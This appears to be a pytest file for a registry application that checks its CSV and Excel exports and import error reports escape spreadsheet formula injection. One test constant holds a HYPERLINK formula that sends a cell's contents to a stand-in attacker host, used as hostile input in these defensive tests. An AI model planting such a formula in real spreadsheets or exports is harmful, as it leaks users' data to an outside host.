"""No CSV or Excel file the product writes holds a cell a spreadsheet program would run as a formula."""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from registry.import_files import Problem, error_report_csv, error_report_xlsx
from registry.services.opendata import open_data_export, open_data_path
from registry.spreadsheets import csv_cell, is_formula_like

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_a_leading_apostrophe_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["上海市闵行区青年志愿者协会", "1=1", "", None, -1, 2.5])
def test_other_values_are_written_as_they_are(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.django_db
def test_open_data_never_writes_an_applicants_text_as_a_formula(make_org):
    organization = make_org(name="上海市闵行区青年志愿者协会", business_scope=HOSTILE, domicile="@SUM(1+1)")
    open_data_export()

    rows = list(csv.DictReader(io.StringIO(open_data_path("csv").read_text(encoding="utf-8-sig"))))
    row = next(row for row in rows if row["uscc"] == organization.uscc)
    assert row["business_scope"] == "'" + HOSTILE
    assert row["domicile"] == "'@SUM(1+1)"
    assert row["name"] == "上海市闵行区青年志愿者协会"

    data = open_data_path("xlsx").read_bytes()
    assert "<f>" not in _sheet_xml(data)  # no formula anywhere in the workbook
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    scope = next(cell for cell in sheet[2] if cell.value == HOSTILE)
    assert scope.data_type == "s" and scope.quotePrefix  # shown as the text typed, kept text when edited


@pytest.mark.django_db  # every export is logged
def test_import_problem_reports_escape_the_values_they_quote():
    problems = [
        Problem("社会组织", 2, "业务范围", HOSTILE, "业务范围过长。"),
        Problem("社会组织", 3, "住所", "-2+3", "住所不完整。"),
    ]

    rows = list(csv.reader(io.StringIO(error_report_csv(problems).decode("utf-8-sig"))))
    assert rows[1][3] == "'" + HOSTILE and rows[2][3] == "'-2+3"

    data = error_report_xlsx(problems)
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["D2"].value == HOSTILE and sheet["D2"].data_type == "s" and sheet["D2"].quotePrefix


def _writer_modules():
    for package in ("registry", "workflows", "config"):
        for path in (ROOT / package).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_every_csv_and_workbook_writer_goes_through_the_one_escaping_module():
    """csv.writer and worksheet.append are called in registry/spreadsheets.py only; the rest use its helpers."""
    offenders = []
    for path in _writer_modules():
        if path == ROOT / "registry" / "spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            target = ast.unparse(node.func)
            writes_csv = target in ("csv.writer", "csv.DictWriter")
            writes_sheet = node.func.attr == "append" and "Workbook" in path.read_text(encoding="utf-8")
            writes_sheet = writes_sheet and any(word in target for word in ("sheet", "notes"))
            if writes_csv or writes_sheet:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {target}")
    assert offenders == []
